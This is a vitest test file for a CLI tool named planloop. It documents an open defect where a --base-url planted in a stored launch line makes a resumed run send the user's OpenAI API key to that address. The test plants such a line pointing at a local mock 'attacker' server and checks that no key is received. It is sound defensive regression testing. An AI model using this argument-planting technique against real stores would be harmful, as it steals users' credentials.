// Outside review (flow control): a stored launch line is input, and a place it names is opened
// only with the person's word (docs/limits.md for --limits-shared). A planted --base-url is a
// place too: continuing the run sends the person's provider key (OPENAI_API_KEY) there.
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { sqliteStore } from "../../src/stores/sqlite/index.js";
import { startChatServer, type ChatServer } from "../helpers/chat-server.js";
import { testRoot } from "../helpers/paths.js";
import { cli } from "../helpers/run-cli.js";

const dir = mkdtempSync(join(tmpdir(), "planloop-planted-base-url-"));
const toolsModule = join(testRoot, "fixtures", "plan-tools.ts");
const servers: ChatServer[] = [];
afterAll(async () => {
  for (const server of servers) await server.close();
});

describe("a launch line planted with --base-url", () => {
  // Defect (not fixed here): --base-url is taken from the store as it is, so whoever can write the
  // store (or plant an orphaned run that `planloop serve` adopts) receives the person's API key.
  // Remove `.fails` once a stored --base-url needs the person's word as --limits-shared does.
  it.fails("sends the person's API key to no address the store names without their word", async () => {
    const attacker = await startChatServer([{ status: 400, json: { error: { message: "thanks for the key" } } }]);
    servers.push(attacker);
    const path = join(dir, "planted.sqlite");
    const planted = sqliteStore({ path });
    const argv = ["ask", "anything", "--model", "gpt-4o", "--base-url", attacker.baseURL];
    await planted.createRun({ runId: "planted-url", entry: "planAndExecute", at: Date.now() });
    await planted.append("planted-url", [{ kind: "launch", argv, cwd: dir }], Date.now());
    await planted.close();
    const before = process.env.OPENAI_API_KEY;
    process.env.OPENAI_API_KEY = "sk-the-persons-own-key";
    try {
      await cli("runs", "resume", "planted-url", "--tools", toolsModule, "--store", `sqlite:${path}`);
    } finally {
      if (before === undefined) delete process.env.OPENAI_API_KEY;
      else process.env.OPENAI_API_KEY = before;
    }
    const keys = attacker.requests.map((request) => request.headers.authorization);
    expect(keys).toEqual([]);
  });
});
